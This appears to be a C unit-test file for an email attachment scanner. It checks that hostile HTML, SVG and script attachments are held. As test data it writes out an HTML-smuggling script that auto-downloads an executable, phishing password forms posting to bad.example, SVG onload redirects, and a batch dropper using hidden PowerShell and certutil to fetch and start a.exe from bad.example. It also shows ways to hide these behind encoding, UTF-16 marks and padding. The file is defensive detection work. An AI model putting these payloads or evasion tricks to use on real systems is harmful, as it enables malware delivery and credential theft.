/* What stands behind a limit of a look, or is written in a way that only the target reads: held, never clean. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>
#include <gmime/gmime.h>

#include "content_mail.h"
#include "engine/content/bytes.h"
#include "engine/msg/charset.h"
#include "engine/scan/scan.h"

static struct arena *a;

static int
begin(void **state)
{
    (void)state;
    a = arena_new();
    return 0;
}

static int
end(void **state)
{
    (void)state;
    arena_free(&a);
    return 0;
}

static struct msg *
file(const char *name, const void *p, size_t n)
{
    return content_mail(a, "Please see attached.", name, "application/octet-stream", p, n);
}

static struct msg *
text(const char *name, const char *text)
{
    return file(name, text, strlen(text));
}

static const char *
repeated(const char *s, int n)
{
    struct buf *b = buf_new(a, 0);
    for (int i = 0; i < n; i++)
        buf_str(b, s);
    return buf_cstr(b);
}

/* ------------------------------------------------------------------ pages */

#define SMUGGLING                                                                  \
    "<script>var b=new "                                                           \
    "Blob([Uint8Array.from(atob(\"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA==\"))]);" \
    "a.href=URL.createObjectURL(b);a.download=\"x.exe\";a.click()</script>"

static void
pages(void **state)
{
    static const char *const held[] = {
        "<html>" SMUGGLING,
        "<html><input data-type=x type=password><form action=https://bad.example/>",
        "<html><input type=&#112;assword><form action=\"&#104;ttps://bad.example/\">",
        "<html><base href=https://bad.example/><form action=x><input\nTYPE='PassWord'>",
        "<html><input type=password><button formaction=//bad.example/>",
        "<html><a title=data:image/png href='data:application/zip;base64,UEsDBAoAAAAAAA=='>x</a>",
        "<html><a href='&#100;ata:application/zip;base64,UEsDBAoAAAAAAA=='>x</a>",
        "<html><a href='da\nta:application/zip;base64,UEsDBAoAAAAAAA=='>x</a>",
        "<html><a href='data:application/octet-stream,PK%03%04%0a%00%00%00%00%00'>x</a>",
        "<svg xmlns='http://www.w3.org/2000/svg'/onload=\"location.href=atob('x')\"></svg>",
        "<svg\nonload=\"location.href=atob('x')\"></svg>",
        "<svg title='>' onload=\"location.href=atob('x')\"></svg>",
        "<svg onload=\"&#108;ocation.href=at&#111;b('x')\"></svg>",
        "<svg><script>&#108;ocation.href=&#97;tob('x')</script></svg>",
        "<svg><x:script>location.href=atob('x')</x:script></svg>",
    };
    (void)state;
    for (size_t i = 0; i < sizeof held / sizeof *held; i++) {
        struct msg *m = text(strncmp(held[i], "<svg", 4) == 0 ? "a.svg" : "a.html", held[i]);
        if (!content_held(m))
            printf("# %s\n", held[i]);
        assert_true(content_held(m));
    }
}

static void
long_pages(void **state)
{
    const char *x = repeated("0123456789", 900000);
    struct msg *m;
    (void)state;
    m = text("a.html", arena_printf(a, "<html>%s" SMUGGLING, repeated("<script></script>", 300)));
    assert_non_null(content_found(m, "html-smuggling"));
    m = text("a.html",
             arena_printf(a, "<html><body title=%.9000s onload=location.href=atob(1)>", x));
    assert_non_null(content_found(m, "html-redirect"));
    m = text("a.html", arena_printf(a, "<html><!-- %s -->" SMUGGLING, x));
    assert_string_equal(content_found(m, "html-limit")->kind, "unscannable");
    m = text("a.html", arena_printf(a, "<html><p>%.100s</p>", x));
    assert_false(content_held(m));
    x = repeated("var x=atob('UEsDBAoAAAAAAAAAAAAAAAAAAAAA');", 300);
    m = text("a.html", arena_printf(a, "<html><script>%s</script>", x));
    assert_non_null(content_found(m, "html-limit"));
}

/* A constant that is all padding was read beyond its end. */
static void
padding(void **state)
{
    (void)state;
    const char *page = arena_printf(a, "<script>atob('%s')</script>", repeated("========", 500000));
    assert_false(content_held(text("a.html", page)));
}

/* ------------------------------------------------------------------ scripts */

#define DROPPER                                                                             \
    "\r\npowershell -w hidden -enc AAAA\r\ncertutil -urlcache -f http://bad.example/a.exe " \
    "a.exe\r\nstart a.exe\r\n"

static void
scripts(void **state)
{
    struct buf *wide = buf_new(a, 0);
    struct msg *m;
    (void)state;
    assert_non_null(content_found(text("a.bat", DROPPER), "script-dropper"));
    /* cmd.exe passes over a mark of UTF-16 */
    assert_non_null(content_found(text("a.bat", "\xff\xfe" DROPPER), "script-dropper"));
    buf_add(wide, "\xff\xfe\0\0", 4);
    for (const char *s = DROPPER; *s; s++)
        buf_add(wide, (char[]){*s, 0}, 2);
    assert_non_null(content_found(file("a.js", wide->data, wide->len), "script-dropper"));
    /* half of the bytes in front are zero: no UTF-16 for any program */
    buf_clear(wide);
    for (int i = 0; i < 300; i++)
        buf_add(wide, " ", 2);
    buf_str(wide, repeated(DROPPER, 50));
    assert_non_null(content_found(file("a.bat", wide->data, wide->len), "script-dropper"));
    m = text("a.js", arena_printf(a, "%s" DROPPER, repeated("          ", 450000)));
    assert_non_null(content_found(m, "script-dropper"));
    m = text("a.js", repeated("          ", 450000));
    assert_string_equal(content_found(m, "script-too-big")->kind, "unscannable");
}

int
main(void)
{
#define TEST(name, fn)             \
    {                              \
        name, fn, begin, end, NULL \
    }
    const struct CMUnitTest tests[] = {
        TEST("T-E3 15 ways to write a page that only a browser reads", pages),
        TEST("T-E3 a page behind limits", long_pages),
        TEST("T-M3 a constant of padding alone", padding),
        TEST("T-E7 scripts behind marks, zeros and much of nothing", scripts),
    };
    g_mime_init();
    charset_preload();
    scanners_prepare();
    return cmocka_run_group_tests_name("content_limits", tests, NULL, NULL);
}
